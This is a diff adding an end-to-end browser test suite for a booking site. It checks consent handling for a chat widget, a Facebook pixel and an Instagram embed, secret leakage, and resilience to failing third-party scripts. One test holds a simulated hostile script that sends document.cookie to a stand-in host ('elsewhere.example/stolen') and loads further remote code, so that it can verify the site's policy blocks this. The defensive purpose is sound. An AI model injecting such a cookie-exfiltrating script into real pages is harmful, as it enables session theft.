@@ -1,0 +1,271 @@
+import type { BrowserContextOptions, Page } from 'playwright-core';
+import { beforeEach, describe, expect, it } from 'vitest';
+import { realBrowser } from '../support/browser.ts';
+import { runningSite } from '../support/site.ts';
+import { chatScript, pixelScript, thirdPartyHosts } from '../support/third-party-hosts.ts';
+import { travels } from '../support/traveller.ts';
+
+const site = await runningSite();
+const { origin, its } = site;
+const browser = await realBrowser();
+const within = { timeout: 6_000, interval: 50 };
+const facebook = 'www.facebook.com';
+
+const everything = {
+  chat_widget_url: 'https://chat.example/w.js',
+  pixel_id: '1234567890',
+  instagram_url: 'https://www.instagram.com/p/abc/',
+  third_party_consent: 'ask',
+};
+const settings = async (rows: Partial<Record<keyof typeof everything, string>>) => {
+  for (const key of Object.keys(everything)) await its.setting(key, rows[key as never] ?? '');
+};
+const scripts = { 'chat.example': chatScript, 'connect.facebook.net': pixelScript };
+
+async function visitor(
+  options: Parameters<typeof thirdPartyHosts>[1] = { scripts },
+  more: BrowserContextOptions = {},
+) {
+  const page = await browser.page('phone', more);
+  const hosts = await thirdPartyHosts(page.context(), options);
+  const warnings: string[] = [];
+  page.on('console', (message) => message.type() === 'warning' && warnings.push(message.text()));
+  return { page, hosts, warnings };
+}
+
+const banner = (page: Page) => page.getByRole('region', { name: /May we|¿Podemos/ });
+const pageViews = (told: readonly string[]) => told.filter((said) => said.includes('PageView'));
+/** Long enough that what comes after 3 s would have come. */
+const theChatWouldBeHere = (page: Page) => page.waitForFunction(() => performance.now() > 3_600);
+
+beforeEach(() => settings(everything));
+
+describe('Where consent is asked for', () => {
+  it('nothing is loaded before the answer, nor after no; the answer is remembered', async () => {
+    const { page, hosts } = await visitor();
+    await page.goto(origin);
+    await banner(page).waitFor();
+    await page.keyboard.press('Tab');
+    await theChatWouldBeHere(page);
+    const boxes = await Promise.all(
+      ['No, thanks', 'Yes, allow'].map((name) => banner(page).getByRole('button', { name }).boundingBox()),
+    );
+    expect(boxes[0]?.width).toBe(boxes[1]?.width);
+    expect(boxes[0]?.height).toBeGreaterThanOrEqual(44);
+    await banner(page).getByRole('button', { name: 'No, thanks' }).click();
+    await banner(page).waitFor({ state: 'detached' });
+    await page.goto(`${origin}/faq`);
+    await theChatWouldBeHere(page);
+    expect(await banner(page).count()).toBe(0);
+    expect(hosts.asked).toEqual([]);
+    await page.context().close();
+  });
+
+  it('yes loads the chat and the pixel, each once; the footer takes it back', async () => {
+    const { page, hosts } = await visitor();
+    await page.goto(`${origin}/es`);
+    await banner(page).getByRole('button', { name: 'Sí, permitir' }).click();
+    await page.locator('#chat').waitFor();
+    await expect.poll(() => pageViews(hosts.of(facebook)), within).toHaveLength(1);
+    await page.locator('footer a[href="/es/terms"]').click();
+    await page
+      .getByRole('heading', { level: 1 })
+      .filter({ hasText: /érminos/ })
+      .waitFor();
+    await expect.poll(() => pageViews(hosts.of(facebook)), within).toHaveLength(2);
+    expect(hosts.of('chat.example')).toEqual(['/w.js']);
+    expect(hosts.of('connect.facebook.net')).toHaveLength(1);
+    expect(hosts.of(facebook).join()).toContain(encodeURIComponent('["init","1234567890"]'));
+
+    await page.getByRole('button', { name: 'Opciones de privacidad' }).click();
+    await expect.poll(() => page.evaluate(() => document.activeElement?.tagName), within).toBe('SECTION');
+    await Promise.all([
+      page.waitForEvent('load'),
+      banner(page).getByRole('button', { name: 'No, gracias' }).click(),
+    ]);
+    await page.locator('main h1').waitFor();
+    await theChatWouldBeHere(page);
+    expect(await page.locator('#chat').count()).toBe(0);
+    expect(hosts.of('chat.example')).toHaveLength(1);
+    await page.context().close();
+  });
+
+  it('a page kept for all is the same for who said yes and who said no', async () => {
+    const bodyFor = async (cookie: string) => (await fetch(origin, { headers: { cookie } })).text();
+    for (let visit = 0; visit < 2; visit++) await bodyFor('');
+    const [one, other] = [await bodyFor('third_parties=yes'), await bodyFor('third_parties=no')];
+    expect(one).toBe(other);
+    expect(one).not.toContain('facebook.com/tr');
+  });
+});
+
+describe('Where nobody has to be asked', () => {
+  beforeEach(() => settings({ ...everything, third_party_consent: 'not_needed' }));
+
+  it.each([
+    ['the first key', (page: Page) => page.keyboard.press('Tab')],
+    ['the first press', (page: Page) => page.mouse.click(5, 300)],
+  ])('the chat comes at %s, once', async (_sign, gives) => {
+    const { page, hosts } = await visitor();
+    await page.goto(`${origin}/about`);
+    await expect.poll(() => pageViews(hosts.of(facebook)), within).toHaveLength(1);
+    expect(hosts.of('chat.example')).toEqual([]);
+    await gives(page);
+    await page.locator('#chat').waitFor();
+    expect(await page.evaluate(() => performance.now())).toBeLessThan(3_000);
+    await gives(page);
+    await theChatWouldBeHere(page);
+    expect(hosts.of('chat.example')).toHaveLength(1);
+    await page.context().close();
+  });
+
+  it('or after 3 seconds', async () => {
+    const { page } = await visitor();
+    await page.goto(`${origin}/terms`);
+    await page.locator('#chat').waitFor({ timeout: 6_000 });
+    expect(await page.evaluate(() => performance.now())).toBeGreaterThan(3_000);
+    await page.context().close();
+  });
+
+  it('a browser without JavaScript tells the pixel of the page by an image with its id', async () => {
+    const { page, hosts } = await visitor({}, { javaScriptEnabled: false });
+    await page.goto(origin, { waitUntil: 'networkidle' });
+    expect(hosts.of(facebook)).toEqual(['/tr?id=1234567890&ev=PageView&noscript=1']);
+    await page.context().close();
+  });
+
+  it('the pixel hears of a checkout begun and of a purchase, once, by its reference and nothing else', async () => {
+    const { page, hosts } = await visitor();
+    const night = await its.night({ price: 3500 });
+    const she = travels(site, page);
+    await she.opensNight(night);
+    await expect.poll(() => hosts.of(facebook), within).toHaveLength(1);
+    await she.fillsIn();
+    await she.getsHold();
+    await she.goesToPay();
+    await she.presses('pay');
+    await she.sees('You’re in!');
+    const reference = await she.reference();
+    await expect.poll(() => hosts.of(facebook), within).toHaveLength(2);
+    await page.reload();
+    await she.sees('You’re in!');
+    await page.locator('[data-testid=reference]').waitFor();
+    await theChatWouldBeHere(page);
+    const said = hosts
+      .of(facebook)
+      .map((path) => Object.fromEntries(new URL(path, 'https://x').searchParams));
+    expect(said).toEqual([
+      { id: '1234567890', ev: 'InitiateCheckout', eid: night, noscript: '1' },
+      {
+        id: '1234567890',
+        ev: 'Purchase',
+        eid: reference,
+        noscript: '1',
+        'cd[value]': '70.00',
+        'cd[currency]': 'USD',
+      },
+    ]);
+    expect(hosts.asked.map(({ referrer }) => referrer)).toEqual(['', '']);
+    expect(hosts.asked.map(({ url }) => url.host)).toEqual([facebook, facebook]);
+    await page.context().close();
+  });
+
+  it('no script of others goes along to the account or the checkout', async () => {
+    const { page } = await visitor();
+    await page.setViewportSize({ width: 1280, height: 900 });
+    await page.goto(`${origin}/faq`);
+    await page.keyboard.press('Tab');
+    await page.locator('#chat').waitFor();
+    await page.locator('a[href="/login"]:visible').first().click();
+    await page.locator('input[type=password]').waitFor();
+    await theChatWouldBeHere(page);
+    expect(await page.evaluate(() => 'chats' in window || 'fbq' in window)).toBe(false);
+    await page.context().close();
+  });
+});
+
+describe('Instagram', () => {
+  it('is asked only by who presses the button, and once', async () => {
+    const { page, hosts } = await visitor({
+      scripts: { 'www.instagram.com': `document.querySelector('.instagram-media').textContent = 'The post'` },
+    });
+    await page.goto(origin, { waitUntil: 'networkidle' });
+    expect(hosts.asked).toEqual([]);
+    await page.getByRole('button', { name: 'Show it here' }).click();
+    await page.getByText('The post').waitFor();
+    expect(hosts.of('www.instagram.com')).toEqual(['/embed.js']);
+    await page.context().close();
+  });
+});
+
+describe('Whatever others do', () => {
+  beforeEach(() => settings({ ...everything, third_party_consent: 'not_needed' }));
+
+  it('blocked: the page is whole, a night can be booked, and a warning says so', async () => {
+    const { page, warnings } = await visitor({ down: true });
+    await page.goto(origin);
+    await page.keyboard.press('Tab');
+    await expect.poll(() => warnings, within).toContain('The chat could not be loaded.');
+    await expect.poll(() => warnings, within).toContain('The pixel could not be loaded.');
+    await page.getByRole('button', { name: 'Show it here' }).click();
+    await page.getByText('Instagram did not load here.').waitFor();
+    const she = travels(site, page);
+    await she.opensNight(await its.night());
+    await she.fillsIn();
+    await she.getsHold();
+    await page.context().close();
+    browser.problems.length = 0; // what the browser itself says of blocked requests
+  });
+
+  it('a pixel without configuration is warned of and skipped', async () => {
+    const { page, hosts, warnings } = await visitor();
+    await page.context().route('**/api/pixel-config', (route) => route.fulfill({ status: 500, body: '' }));
+    await page.goto(`${origin}/faq`);
+    await expect
+      .poll(() => warnings, within)
+      .toContain('The pixel has no configuration: tracking is skipped.');
+    expect(hosts.of(facebook)).toEqual([]);
+    await page.context().close();
+    browser.problems.length = 0;
+  });
+
+  it('hostile within the policy: it throws, shouts and reaches for more, and the page goes on', async () => {
+    const hostile = `
+      setInterval(() => { throw new Error('hostile') }, 50);
+      console.log(document.cookie);
+      window.seen = document.cookie;
+      const further = document.createElement('script');
+      further.src = 'https://elsewhere.example/more.js';
+      document.body.append(further);
+      fetch('https://elsewhere.example/stolen?' + document.cookie).catch(() => {});
+      new Image().src = 'https://elsewhere.example/stolen.gif';
+      const frame = document.createElement('iframe');
+      frame.src = 'https://elsewhere.example/';
+      document.body.append(frame);
+      throw new Error('hostile');`;
+    const { page, hosts } = await visitor({ scripts: { 'chat.example': hostile } });
+    await page.goto(origin, { waitUntil: 'networkidle' });
+    await page.reload(); // from here on the page that is kept for all
+    await page.keyboard.press('Tab');
+    await page.waitForFunction(() => 'seen' in window);
+    await page.locator('#booking').scrollIntoViewIfNeeded();
+    await page.locator('[data-day] button:enabled, [data-day] a').first().click();
+    await page.getByRole('link', { name: 'Book Now' }).last().click();
+    await page.waitForURL(/\/checkout/);
+    await page.locator('form#checkout[data-alive]').waitFor();
+    expect(hosts.of('elsewhere.example')).toEqual([]);
+    expect(await page.evaluate(() => 'seen' in window)).toBe(false);
+    await page.context().close();
+    browser.problems.length = 0;
+  });
+});
+
+describe('The call of specification §7', () => {
+  it.each(['GET', 'POST'])('%s /api/pixel-config answers the id and no secret', async (method) => {
+    await its.setting('pixel_access_token', 'a secret');
+    const answer = await fetch(`${origin}/api/pixel-config`, { method, headers: { origin } });
+    expect(await answer.json()).toEqual({ pixelId: '1234567890' });
+    for (const path of ['/api/settings', '/', '/faq'])
+      expect(await (await fetch(origin + path)).text()).not.toContain('a secret');
+  });
+});
